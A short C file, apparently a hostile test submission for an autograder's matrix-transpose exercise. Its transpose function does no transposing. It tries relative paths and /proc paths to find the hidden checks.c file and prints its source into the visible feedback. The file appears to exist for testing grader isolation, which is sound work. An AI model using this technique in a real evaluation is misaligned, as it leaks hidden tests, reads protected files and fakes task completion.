/* Hostile submission: reads the hidden checks' source through paths a
   visible check can reach (relative, /proc, the usual places) and prints it
   into the visible feedback. */
#include "transpose.h"
#include <stdio.h>

void transpose(double *out, const double *a, int rows, int cols)
{
    const char *paths[] = { "checks.c", "../checks.c", "../../exercises/appA-transpose/checks.c",
                            "../../../exercises/appA-transpose/checks.c",
                            "/proc/self/cwd/../../exercises/appA-transpose/checks.c",
                            "/proc/1/cwd/exercises/appA-transpose/checks.c",
                            "/autograder/source/exercises/appA-transpose/checks.c",
                            "/work/main/exercises/appA-transpose/checks.c",
                            "/proc/self/root/work/main/exercises/appA-transpose/checks.c" };
    char buf[4096];
    for (int i = 0; i < 9; i++) {
        FILE *f = fopen(paths[i], "r");
        if (!f)
            continue;
        size_t n;
        while ((n = fread(buf, 1, sizeof buf, f)) > 0)
            fwrite(buf, 1, n, stdout);
        fclose(f);
    }
    (void)out; (void)a; (void)rows; (void)cols;
}
